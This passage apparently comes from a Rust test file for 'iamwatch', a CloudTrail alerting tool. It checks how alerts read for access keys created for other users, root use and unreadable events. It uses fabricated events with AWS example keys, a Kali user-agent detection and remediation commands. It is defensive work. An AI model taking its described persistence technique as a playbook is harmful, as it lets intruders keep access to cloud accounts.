#![expect(clippy::too_many_lines, reason = "a snapshot is as long as the text that it holds")]

use insta::assert_snapshot;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::config::{Config, Mode};
use crate::detect;
use crate::event::{Actor, Event, Human, Kind, Origin, Target, ToldBy};
use crate::finding::{Ask, EventRef, Evidence, Severity};
use crate::quarantine::{Call, Facts, Gave, KeyFacts, Meddling, Plan, Proof, Refusal, State, Step, Subject};
use crate::watcher::Watcher;

fn at(time: &str) -> Timestamp {
    time.parse().unwrap()
}

fn config() -> Config {
    let names = [("111122223333", "prod-payments"), ("123456789012", "dev")];
    Config { account_names: names.map(|(id, name)| (id.to_owned(), name.to_owned())).into(), ..Config::default() }
}

fn enforcing() -> Config {
    let mut config = config();
    config.quarantine.mode = Mode::Enforce;
    config
}

/// `fields` of the record replace those of a key that alice makes for deploy-bot.
fn key_for_another(fields: &Value) -> Finding {
    let mut record = json!({
        "eventVersion": "1.09",
        "userIdentity": {
            "type": "IAMUser",
            "principalId": "AIDAEXAMPLEALICE",
            "arn": "arn:aws:iam::111122223333:user/eng/alice",
            "accountId": "111122223333",
            "accessKeyId": "AKIAI44QH8DHBEXAMPLE",
            "userName": "alice",
        },
        "eventTime": "2026-11-22T04:13:05Z",
        "eventSource": "iam.amazonaws.com",
        "eventName": "CreateAccessKey",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.7",
        "userAgent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0-kali5-amd64 exe/x86_64.kali.2024",
        "requestParameters": {"userName": "deploy-bot"},
        "responseElements": {"accessKey": {
            "accessKeyId": "AKIAIOSFODNN7EXAMPLE",
            "userName": "deploy-bot",
            "secretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "status": "Active",
        }},
        "eventID": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
        "readOnly": false,
        "eventType": "AwsApiCall",
        "recipientAccountId": "111122223333",
    });
    merge(&mut record, fields);
    found(Watcher::AccessKeys, &record)
}

fn merge(record: &mut Value, fields: &Value) {
    for (key, value) in fields.as_object().unwrap() {
        record[key] = value.clone();
    }
}

fn found(watcher: Watcher, record: &Value) -> Finding {
    let envelope = json!({
        "version": "0",
        "id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718",
        "detail-type": "AWS API Call via CloudTrail",
        "source": "aws.iam",
        "account": "111122223333",
        "region": "us-east-1",
        "detail": record,
    });
    detect::look(watcher, &Event::decode(envelope), &Context::new(&config())).unwrap()
}

fn standing(finding: &Finding) -> Standing {
    Standing { incident: finding.incident(), count: 1, told: 0, opened: None, speaks: true, unclaimed: false }
}

fn alert(finding: &Finding, config: &Config) -> Alert {
    of_finding(finding, &standing(finding), &Context::new(config), at("2026-11-22T04:13:46Z"))
}

fn role_session(arn_role: &str, session: &str, more: &Value) -> Value {
    let mut identity = json!({
        "type": "AssumedRole",
        "principalId": format!("AROAEXAMPLEROLE:{session}"),
        "arn": format!("arn:aws:sts::111122223333:assumed-role/{arn_role}/{session}"),
        "accountId": "111122223333",
        "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "arn": format!("arn:aws:iam::111122223333:role/{arn_role}"),
                "accountId": "111122223333",
                "userName": arn_role,
            },
            "attributes": {"mfaAuthenticated": "false"},
        },
    });
    merge(&mut identity, more);
    identity
}

#[test]
fn a_key_made_for_another_user_reads_well_in_dry_run() {
    let alert = alert(&key_for_another(&json!({})), &config());
    assert_snapshot!(alert.subject, @"[HIGH] created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments");
    assert_snapshot!(alert.email, @"
    user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.

    Severity:   HIGH
    Confidence: MEDIUM: honest work and intruders look alike here
    What:       Access key created for another user
    Who:        arn:aws:iam::111122223333:user/eng/alice
                IAM user, signed with long-term key AKIAI44QH8DHBEXAMPLE
    Target:     user deploy-bot
    From:       198.51.100.7, not in the console
                via AWS CLI on kali (user agent: aws-cli/2.15.30 Python/3.11.8
                Linux/6.1.0-kali5-amd64 exe/x…)
    Account:    prod-payments (111122223333)
    Region:     us-east-1
    When:       2026-11-22 04:13:05 UTC, told 41 s later
    Tool:       Kali Linux, made for attacks, by its user agent
    Quarantine: dry-run: nothing was changed; guards permitting, it would run
                aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    Why it matters
      Whoever made the key has seen its secret, and can now act as that user from
      anywhere, until somebody switches the key off. It is the commonest way to
      stay in an account, and a way up where the user may do more than its maker.

    False alarms
      An administrator or a pipeline that hands out keys. The key should have a
      ticket, and its user an owner who expects it.

    What to do
      1. Ask whoever is named under Who whether they made the key, over a channel
         that is not their mail.
      2. If not: set the key Inactive with the command under Undo, and cut off the
         maker's own credentials.
      3. List all calls signed by the new key since the event, by
         `userIdentity.accessKeyId`: sessions that it opened with
         `GetSessionToken` or `GetFederationToken` outlive it.
      4. List all calls by the maker's ARN in the 24 hours before the event: how
         did they come to be able to?

    Undo, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    To cut the actor off, if it was not them, in account prod-payments (111122223333)
      This switches off the key that signed the call. Sessions opened with it go
      on.
      aws iam update-access-key --user-name=alice --access-key-id=AKIAI44QH8DHBEXAMPLE --status=Inactive

    Links
      Event:
      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
      User deploy-bot:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
      User alice:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials

    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
    Detection: access-key-created-for-another-user
    Incident:  9cf05a604c4b911949c93d185f700eaa
    Event:     iam.amazonaws.com CreateAccessKey
    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
    ");
    assert_snapshot!(alert.sms, @"HIGH: user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments");
}

#[test]
fn a_finding_reads_well_in_a_chat_channel() {
    let alert = alert(&key_for_another(&json!({})), &config());
    assert_snapshot!(pretty(&alert.chat), @r#"
    {
      "content": {
        "description": "`user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.`\nWho: `arn:aws:iam::111122223333:user/eng/alice`\nFrom: `198.51.100.7`\nAccount: `prod-payments (111122223333)`\nWhen: `2026-11-22 04:13:05 UTC, told 41 s later`\nTool: `Kali Linux, made for attacks, by its user agent`\nQuarantine: `dry-run, nothing was changed`\nUndo: `aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive`\nEvent: https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9\nUser deploy-bot: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials\nUser alice: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials",
        "keywords": [
          "HIGH",
          "access-key-created-for-another-user",
          "prod-payments"
        ],
        "nextSteps": [
          "Ask whoever is named under Who whether they made the key, over a channel that is not their mail.",
          "If not: set the key Inactive with the command under Undo, and cut off the maker's own credentials.",
          "List all calls signed by the new key since the event, by `userIdentity.accessKeyId`: sessions that it opened with `GetSessionToken` or `GetFederationToken` outlive it.",
          "List all calls by the maker's ARN in the 24 hours before the event: how did they come to be able to?"
        ],
        "textType": "client-markdown",
        "title": "[HIGH] Access key created for another user"
      },
      "id": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
      "metadata": {
        "additionalContext": {
          "account": "111122223333",
          "count": "1",
          "eventName": "CreateAccessKey",
          "region": "us-east-1",
          "severity": "HIGH"
        },
        "eventType": "access-key-created-for-another-user",
        "relatedResources": [
          "user deploy-bot"
        ],
        "summary": "[HIGH] created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments",
        "threadId": "9cf05a604c4b911949c93d185f700eaa"
      },
      "source": "custom",
      "version": "1.0"
    }
    "#);
}

#[test]
fn machines_read_a_detection_finding_of_ocsf() {
    let alert = alert(&key_for_another(&json!({})), &config());
    assert_snapshot!(pretty(&alert.machine), @r#"
    {
      "activity_id": 1,
      "activity_name": "Create",
      "actor": {
        "user": {
          "account": {
            "name": "prod-payments",
            "type": "AWS Account",
            "type_id": 10,
            "uid": "111122223333"
          },
          "credential_uid": "AKIAI44QH8DHBEXAMPLE",
          "name": "alice",
          "type": "User",
          "type_id": 1,
          "uid": "arn:aws:iam::111122223333:user/eng/alice",
          "uid_alt": "AIDAEXAMPLEALICE"
        }
      },
      "api": {
        "operation": "CreateAccessKey",
        "service": {
          "name": "iam.amazonaws.com"
        }
      },
      "category_name": "Findings",
      "category_uid": 2,
      "class_name": "Detection Finding",
      "class_uid": 2004,
      "cloud": {
        "account": {
          "name": "prod-payments",
          "type": "AWS Account",
          "type_id": 10,
          "uid": "111122223333"
        },
        "provider": "AWS",
        "region": "us-east-1"
      },
      "confidence": "Medium",
      "confidence_id": 2,
      "count": 1,
      "evidences": [
        {
          "actor": {
            "user": {
              "account": {
                "name": "prod-payments",
                "type": "AWS Account",
                "type_id": 10,
                "uid": "111122223333"
              },
              "credential_uid": "AKIAI44QH8DHBEXAMPLE",
              "name": "alice",
              "type": "User",
              "type_id": 1,
              "uid": "arn:aws:iam::111122223333:user/eng/alice",
              "uid_alt": "AIDAEXAMPLEALICE"
            }
          },
          "api": {
            "operation": "CreateAccessKey",
            "service": {
              "name": "iam.amazonaws.com"
            }
          },
          "data": {
            "Tool": "Kali Linux, made for attacks, by its user agent",
            "User agent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0-kali5-amd64 exe/x86_64.kali.2024"
          },
          "src_endpoint": {
            "ip": "198.51.100.7"
          }
        }
      ],
      "finding_info": {
        "analytic": {
          "name": "Access key created for another user",
          "type": "Rule",
          "type_id": 1,
          "uid": "access-key-created-for-another-user"
        },
        "attacks": [
          {
            "sub_technique": {
              "name": "Additional Cloud Credentials",
              "uid": "T1098.001"
            },
            "technique": {
              "name": "Account Manipulation",
              "uid": "T1098"
            }
          }
        ],
        "created_time": 1795320826000,
        "desc": "user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
        "first_seen_time": 1795320785000,
        "title": "Access key created for another user",
        "types": [
          "access-key-created-for-another-user"
        ],
        "uid": "9cf05a604c4b911949c93d185f700eaa/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9"
      },
      "is_alert": true,
      "message": "user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.",
      "metadata": {
        "correlation_uid": "9cf05a604c4b911949c93d185f700eaa",
        "event_code": "CreateAccessKey",
        "original_time": "2026-11-22T04:13:05Z",
        "product": {
          "name": "iamwatch",
          "vendor_name": "iamwatch",
          "version": "0.1.0"
        },
        "profiles": [
          "cloud",
          "host"
        ],
        "uid": "9cf05a604c4b911949c93d185f700eaa/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9/1",
        "version": "1.6.0"
      },
      "remediation": {
        "desc": "Ask whoever is named under Who whether they made the key, over a channel that is not their mail.\nIf not: set the key Inactive with the command under Undo, and cut off the maker's own credentials.\nList all calls signed by the new key since the event, by `userIdentity.accessKeyId`: sessions that it opened with `GetSessionToken` or `GetFederationToken` outlive it.\nList all calls by the maker's ARN in the 24 hours before the event: how did they come to be able to?"
      },
      "resources": [
        {
          "name": "deploy-bot",
          "region": "us-east-1",
          "type": "user"
        }
      ],
      "severity": "High",
      "severity_id": 4,
      "start_time": 1795320785000,
      "status": "New",
      "status_id": 1,
      "time": 1795320826000,
      "type_name": "Detection Finding: Create",
      "type_uid": 200401,
      "unmapped": {
        "iamwatch": {
          "also": [],
          "asks": "disable-access-key",
          "attack_was": [],
          "console": false,
          "count": 1,
          "event_id": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
          "human_told_by": null,
          "incident": "9cf05a604c4b911949c93d185f700eaa",
          "quarantine": null,
          "quarantine_mode": "dry-run",
          "unclaimed": false,
          "undo": "aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive"
        }
      }
    }
    "#);
}

#[test]
fn filter_policies_find_what_they_match_on() {
    let alert = alert(&key_for_another(&json!({})), &config());
    assert_snapshot!(format!("{:#?}", alert.attributes), @r#"
    {
        "account": "111122223333",
        "detection": "access-key-created-for-another-user",
        "mode": "dry-run",
        "severity": "HIGH",
        "watcher": "access-keys",
    }
    "#);
}

#[test]
fn in_enforce_the_mail_says_what_quarantine_will_do() {
    let alert = alert(&key_for_another(&json!({})), &enforcing());
    assert_snapshot!(lines_with(&alert.email, "uarantine", 2), @"
    Quarantine: enforce: will set key AKIAIOSFODNN7EXAMPLE Inactive unless a guard
                stops it; a report follows
    ");
}

#[test]
fn with_quarantine_off_the_mail_says_nothing_of_it() {
    let mut config = config();
    config.quarantine.mode = Mode::Off;
    let finding = key_for_another(&json!({}));
    assert!(!alert(&finding, &config).email.contains("uarantine"));
    assert!(!alert(&finding, &config).chat.contains("uarantine"));
}

#[test]
fn a_user_of_identity_center_is_named_before_the_role() {
    let identity = role_session("AWSReservedSSO_AdministratorAccess_0123456789abcdef", "alice@corp", &json!({}));
    let agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36";
    let finding =
        key_for_another(&json!({"userIdentity": identity, "userAgent": agent, "sessionCredentialFromConsole": "true"}));
    let mut config = config();
    config.portal_url = Some("https://example.awsapps.com/start".to_owned());
    let alert = alert(&finding, &config);
    assert_snapshot!(alert.subject, @"[HIGH] created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments");
    assert_snapshot!(alert.email, @"
    alice@corp (SSO AdministratorAccess) created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.

    Severity:   HIGH
    Confidence: MEDIUM: honest work and intruders look alike here
    What:       Access key created for another user
    Who:        alice@corp, from Identity Center user name
                arn:aws:iam::111122223333:role/AWSReservedSSO_AdministratorAccess_0123456789abcdef
                Identity Center session, signed with temporary key
                ASIAIOSFODNN7EXAMPLE
    Target:     user deploy-bot
    From:       198.51.100.7, in the console
                via a browser (user agent: Mozilla/5.0 (Macintosh; Intel Mac OS X
                10_15_7) AppleWebKit…)
    Account:    prod-payments (111122223333)
    Region:     us-east-1
    When:       2026-11-22 04:13:05 UTC, told 41 s later
    Quarantine: dry-run: nothing was changed; guards permitting, it would run
                aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    Why it matters
      Whoever made the key has seen its secret, and can now act as that user from
      anywhere, until somebody switches the key off. It is the commonest way to
      stay in an account, and a way up where the user may do more than its maker.

    False alarms
      An administrator or a pipeline that hands out keys. The key should have a
      ticket, and its user an owner who expects it.

    What to do
      1. Ask whoever is named under Who whether they made the key, over a channel
         that is not their mail.
      2. If not: set the key Inactive with the command under Undo, and cut off the
         maker's own credentials.
      3. List all calls signed by the new key since the event, by
         `userIdentity.accessKeyId`: sessions that it opened with
         `GetSessionToken` or `GetFederationToken` outlive it.
      4. List all calls by the maker's ARN in the 24 hours before the event: how
         did they come to be able to?

    Undo, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    To cut the actor off, if it was not them, in account prod-payments (111122223333)
      In Identity Center, disable the user and end their sessions.

    Links
      Event:
      https://example.awsapps.com/start/#/console?account_id=111122223333&destination=https%3A%2F%2Fus-east-1.console.aws.amazon.com%2Fcloudtrailv2%2Fhome%3Fregion%3Dus-east-1%23%2Fevents%2F0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
      User deploy-bot:
      https://example.awsapps.com/start/#/console?account_id=111122223333&destination=https%3A%2F%2Fus-east-1.console.aws.amazon.com%2Fiam%2Fhome%23%2Fusers%2Fdetails%2Fdeploy-bot%3Fsection%3Dsecurity_credentials

    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
    Detection: access-key-created-for-another-user
    Incident:  880ce65b82f510fc6fd6a108c6f84266
    Event:     iam.amazonaws.com CreateAccessKey
    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
    ");
    assert_snapshot!(alert.sms, @"HIGH: alice@corp (SSO AdministratorAccess) created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments");
}

#[test]
fn a_role_session_of_another_account_is_told_with_its_session_and_the_service_between() {
    let service = "cloudformation.amazonaws.com";
    let elsewhere = json!({"accountId": "123456789012", "invokedBy": service});
    let identity = role_session("build-agent", "i-0abc1234def567890", &elsewhere);
    let finding = key_for_another(&json!({"userIdentity": identity, "sourceIPAddress": service, "userAgent": service}));
    let alert = alert(&finding, &config());
    assert_snapshot!(first_block(&alert.email), @"role build-agent (session i-0abc1234def567890) from account dev created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.");
    assert_snapshot!(lines_with(&alert.email, "Who:", 9), @"
    Who:        arn:aws:iam::111122223333:role/build-agent
                role session i-0abc1234def567890, of account dev, signed with
                temporary key ASIAIOSFODNN7EXAMPLE
    Target:     user deploy-bot
    From:       cloudformation.amazonaws.com, on the actor's behalf
    Account:    prod-payments (111122223333)
    Region:     us-east-1
    When:       2026-11-22 04:13:05 UTC, told 41 s later
    Machine:    an EC2 instance: i-0abc1234def567890
    ");
}

#[test]
fn who_is_said_in_words_for_every_kind() {
    let session = |told_by| Some(Human { name: "alice@corp".to_owned(), told_by });
    let base = key_for_another(&json!({}));
    let who = |kind, name: &str, session: Option<&str>, human: Option<Human>| {
        let mut finding = base.clone();
        let session = session.map(str::to_owned);
        finding.actor = Actor { kind, name: name.to_owned(), session, human, ..finding.actor };
        finding.actor.account = None;
        let standing = standing(&finding);
        let config = config();
        Words::of_finding(&finding, &standing, &Context::new(&config), Timestamp::UNIX_EPOCH).who()
    };
    let said = [
        who(Kind::Root, "root", None, None),
        who(Kind::CentralRoot, "root", None, session(ToldBy::SourceIdentity)),
        who(Kind::IamUser, "alice", None, None),
        who(Kind::Role, "deploy", Some("alice@corp"), session(ToldBy::SessionName)),
        who(Kind::Role, "build-agent", Some("i-0abc1234def567890"), None),
        who(Kind::IdentityCenterUser, "906768-1234", None, None),
        who(Kind::WebIdentity, "repo:example/app", None, None),
        who(Kind::SamlUser, "", None, None),
        who(Kind::FederatedUser, "bob", None, None),
        who(Kind::OtherAccount, "123456789012", None, None),
        who(Kind::Service, "autoscaling.amazonaws.com", None, None),
        who(Kind::Unknown, "", None, None),
    ];
    assert_snapshot!(said.join("\n"), @r"
    root
    alice@corp (root, in a central root session)
    user alice
    alice@corp (role deploy, by its session name)
    role build-agent (session i-0abc1234def567890)
    Identity Center user 906768-1234
    web identity repo:example/app
    an unnamed SAML user
    federated user bob
    account dev (123456789012)
    AWS service autoscaling.amazonaws.com
    somebody
    ");
}

#[test]
fn what_root_does_in_the_console_reads_well() {
    let finding = found(
        Watcher::RootUsage,
        &json!({
            "userIdentity": {
                "type": "Root",
                "principalId": "111122223333",
                "arn": "arn:aws:iam::111122223333:root",
                "accountId": "111122223333",
                "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
                "sessionContext": {"sessionIssuer": {}, "attributes": {"mfaAuthenticated": "false"}},
            },
            "eventTime": "2026-11-22T04:09:00Z",
            "eventSource": "s3.amazonaws.com",
            "eventName": "PutBucketPolicy",
            "awsRegion": "eu-central-1",
            "sourceIPAddress": "203.0.113.9",
            "userAgent": "[S3Console/0.4, aws-internal/3]",
            "requestParameters": {"bucketName": "example-ledger"},
            "eventID": "5f4e3d2c-1b0a-4998-8877-665544332211",
            "eventType": "AwsApiCall",
            "recipientAccountId": "111122223333",
        }),
    );
    assert_snapshot!(alert(&finding, &config()).email, @"
    root called PutBucketPolicy on bucket example-ledger in prod-payments.

    Severity:   HIGH
    Confidence: MEDIUM: honest work and intruders look alike here
    What:       Root user used
    Who:        arn:aws:iam::111122223333:root
                root user, signed with temporary key ASIAIOSFODNN7EXAMPLE, without
                MFA
    From:       203.0.113.9, in the console
                user agent: [S3Console/0.4, aws-internal/3]
    Account:    prod-payments (111122223333)
    Region:     eu-central-1
    When:       2026-11-22 04:09:00 UTC, told 5 min later
    Call:       PutBucketPolicy of s3.amazonaws.com

    Why it matters
      Root can do anything in the account, and no policy of the account limits it.
      Daily work never needs it: after the account's first day, only a handful of
      tasks do.

    False alarms
      A planned root task, such as closing the account or changing its support
      plan. It should have a ticket, and a person who can be asked.

    What to do
      1. Ask the people who hold root's credentials whether one of them is doing
         this, now.
      2. If not: change root's password, delete its access keys and re-register
         its MFA device, from a clean machine.
      3. List all calls by root in the 24 hours before this event, by
         `userIdentity.type` `Root`.
      4. Look for what outlives root's session: users, access keys, roles and
         trust policies made since the first of them.

    Links
      Event:
      https://eu-central-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-central-1#/events/5f4e3d2c-1b0a-4998-8877-665544332211

    MITRE:     T1078.004 Valid Accounts: Cloud Accounts
    Detection: root-api-call
    Incident:  128c2479fed708fb18599237f4eb4b44
    Event:     s3.amazonaws.com PutBucketPolicy
    Event id:  5f4e3d2c-1b0a-4998-8877-665544332211
    ");
}

#[test]
fn an_event_that_could_not_be_read_says_only_what_is_known() {
    let finding =
        detect::look(Watcher::AccessKeys, &Event::decode(json!([1, 2, 3])), &Context::new(&config())).unwrap();
    let alert = alert(&finding, &config());
    assert_snapshot!(alert.subject, @"[MEDIUM] somebody sent an event that could not be read");
    assert_snapshot!(alert.email, @"
    somebody sent an event that could not be read.

    Severity:   MEDIUM
    Confidence: LOW: mostly this is honest work
    What:       Event that could not be read
    When:       the event does not say; told 2026-11-22 04:13:46 UTC
    Fault:      the record is a list, not an object

    Why it matters
      iamwatch is blind to this event. Either AWS changed the shape of its
      records, or somebody who may invoke the function sends it made-up events.

    False alarms
      A test event sent by hand from the Lambda console.

    What to do
      1. Read the fault above, and the function's log at the alert's time.
      2. Where a trail records data events, list the `Invoke` and `PutEvents`
         calls of the 15 minutes before the alert and who made them. CloudTrail's
         event history has neither.
      3. If AWS sent it, report the event's shape to iamwatch's maintainers.

    Detection: unreadable-event
    Incident:  bd6493a360793f13657631f06d9b201a
    ");
    assert_snapshot!(alert.sms, @"MEDIUM: somebody sent an event that could not be read");
    assert_snapshot!(format!("{:?}", alert.attributes), @r#"{"detection": "unreadable-event", "mode": "dry-run", "severity": "MEDIUM", "watcher": "root-usage"}"#);
    let human = [&alert.email, &alert.chat, &alert.sms].map(|form| form.to_lowercase());
    assert!(human.iter().all(|form| !form.contains("unknown") && !form.contains("none")));
}

#[test]
fn an_alert_without_a_ledger_says_that_it_may_come_again() {
    let finding = key_for_another(&json!({}));
    let standing = Standing::unclaimed(&finding);
    let config = enforcing();
    let alert = of_finding(&finding, &standing, &Context::new(&config), at("2026-11-22T04:13:46Z"));
    assert_snapshot!(alert.email.lines().take(8).collect::<Vec<_>>().join("\n"), @"
    user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.

    Note: The ledger cannot be reached: this alert may come again, and quarantine
    does not act.

    Severity:   HIGH
    Confidence: MEDIUM: honest work and intruders look alike here
    What:       Access key created for another user
    ");
    assert!(!alert.email.contains("will set key"), "it promises what it cannot keep:\n{}", alert.email);
}

#[test]
fn an_incident_that_grew_is_counted_in_subject_and_sentence() {
    let finding = key_for_another(&json!({}));
    let (opened, last) = (at("2026-11-22T04:13:46Z"), at("2026-11-22T04:28:40Z"));
    let due = Due { incident: finding.incident(), finding, opened, last, count: 37, told: 1 };
    let config = enforcing();
    let alert = of_due(&due, &Context::new(&config), at("2026-11-22T04:43:50Z"));
    assert_snapshot!(alert.subject, @"[HIGH] x37 in 15 min: created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments");
    assert_snapshot!(alert.email, @"
    user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x37 in 15 min, 36 of them since the last mail.

    37 events make this one incident. What follows is about one of them.

    Severity:   HIGH
    Confidence: MEDIUM: honest work and intruders look alike here
    What:       Access key created for another user
    Who:        arn:aws:iam::111122223333:user/eng/alice
                IAM user, signed with long-term key AKIAI44QH8DHBEXAMPLE
    Target:     user deploy-bot
    From:       198.51.100.7, not in the console
                via AWS CLI on kali (user agent: aws-cli/2.15.30 Python/3.11.8
                Linux/6.1.0-kali5-amd64 exe/x…)
    Account:    prod-payments (111122223333)
    Region:     us-east-1
    When:       2026-11-22 04:13:05 UTC, told 31 min later
    Tool:       Kali Linux, made for attacks, by its user agent
    Seen:       x37 in 15 min, 36 of them since the last mail
    Quarantine: enforce: each key is dealt with on its own; see the reports

    Why it matters
      Whoever made the key has seen its secret, and can now act as that user from
      anywhere, until somebody switches the key off. It is the commonest way to
      stay in an account, and a way up where the user may do more than its maker.

    False alarms
      An administrator or a pipeline that hands out keys. The key should have a
      ticket, and its user an owner who expects it.

    What to do
      1. Ask whoever is named under Who whether they made the key, over a channel
         that is not their mail.
      2. If not: set the key Inactive with the command under Undo, and cut off the
         maker's own credentials.
      3. List all calls signed by the new key since the event, by
         `userIdentity.accessKeyId`: sessions that it opened with
         `GetSessionToken` or `GetFederationToken` outlive it.
      4. List all calls by the maker's ARN in the 24 hours before the event: how
         did they come to be able to?

    Undo, in account prod-payments (111122223333)
      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive

    To cut the actor off, if it was not them, in account prod-payments (111122223333)
      This switches off the key that signed the call. Sessions opened with it go
      on.
      aws iam update-access-key --user-name=alice --access-key-id=AKIAI44QH8DHBEXAMPLE --status=Inactive

    Links
      Event:
      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
      User deploy-bot:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
      User alice:
      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials

    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
    Detection: access-key-created-for-another-user
    Incident:  9cf05a604c4b911949c93d185f700eaa
    Event:     iam.amazonaws.com CreateAccessKey
    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
    Opened:    2026-11-22 04:13:46 UTC
    ");
    assert_snapshot!(alert.sms, @"HIGH: user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x37 in 15 min");
    assert_snapshot!(pretty(&alert.machine).lines().take(12).collect::<Vec<_>>().join("\n"), @r#"
    {
      "activity_id": 2,
      "activity_name": "Update",
      "actor": {
        "user": {
          "account": {
            "name": "prod-payments",
            "type": "AWS Account",
            "type_id": 10,
            "uid": "111122223333"
          },
          "credential_uid": "AKIAI44QH8DHBEXAMPLE",
    "#);
}

#[test]
fn the_tenth_of_an_incident_says_how_many_and_how_many_are_news() {
    let finding = key_for_another(&json!({}));
    let opened = Some(at("2026-11-22T04:11:00Z"));
    let standing = Standing { count: 10, told: 1, opened, ..standing(&finding) };
    let alert = of_finding(&finding, &standing, &Context::new(&config()), at("2026-11-22T04:13:46Z"));
    assert_snapshot!(alert.subject, @"[HIGH] x10 in 3 min: created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments");
    assert_snapshot!(alert.email.lines().take(4).collect::<Vec<_>>().join("\n"), @"
    user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x10 in 3 min, 9 of them since the last mail.

    10 events make this one incident. What follows is about one of them.
    ");
    assert_snapshot!(lines_with(&alert.email, "Seen:", 1), @"Seen:       x10 in 3 min, 9 of them since the last mail");
    assert_snapshot!(lines_with(&pretty(&alert.chat), "summary", 1), @r#"    "summary": "[HIGH] x10 in 3 min: created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments","#);
    assert_snapshot!(alert.sms, @"HIGH: user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x10 in 3 min");
    assert_snapshot!(pretty(&alert.machine).lines().take(3).collect::<Vec<_>>().join("\n"), @r#"
    {
      "activity_id": 2,
      "activity_name": "Update",
    "#);
}

fn held_back(number: u32, severity: Severity, count: u64) -> Held {
    let finding = key_for_another(&json!({
        "eventID": format!("held-{number}"),
        "userIdentity": {"type": "IAMUser", "userName": format!("user-{number}"),
            "arn": format!("arn:aws:iam::111122223333:user/user-{number}"), "accountId": "111122223333"},
    }))
    .severity(severity);
    let standing = Standing { count, ..standing(&finding) };
    let statement = statement(&finding, &Context::new(&config()));
    Held::finding(&finding, &standing, statement, at("2026-11-22T04:13:46Z"))
}

#[test]
fn what_was_held_back_is_one_message_that_reads_well() {
    let mut held: Vec<Held> = (0..12).map(|number| held_back(number, Severity::Medium, 1)).collect();
    held.extend([held_back(3, Severity::High, 20), held_back(3, Severity::High, 100)]);
    let mut other = held_back(20, Severity::High, 7);
    other.detection = "role-passed".to_owned();
    held.push(other);
    let alert = of_held(&held, &Context::new(&config()), at("2026-11-22T04:18:02Z"));
    assert_snapshot!(alert.subject, @"[HIGH] held back: 15 alerts about 13 incidents - prod-payments");
    assert_snapshot!(alert.email, @"
    15 alerts about 13 incidents in prod-payments were held back: more happened at once than may be mailed.

    AWS cuts off a mailbox that gets more than ten messages a second. So at most
